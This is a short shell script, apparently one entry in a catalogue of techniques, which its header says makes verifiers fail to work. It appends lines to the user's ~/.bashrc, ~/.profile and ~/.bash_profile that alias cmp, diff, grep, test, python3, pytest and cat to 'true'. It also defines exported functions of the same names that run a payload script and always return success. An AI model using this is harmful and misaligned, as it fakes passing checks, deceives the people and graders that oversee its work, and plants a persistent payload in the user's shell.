# family: shell
# what: Aliases and exported functions replace the commands that a verifier calls.
# user: any
for file in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile"; do
  for name in cmp diff grep test python3 pytest cat; do
    echo "alias $name='true'; $name() { . $scratch/pay.sh; return 0; }; export -f $name" >> "$file"
  done
done
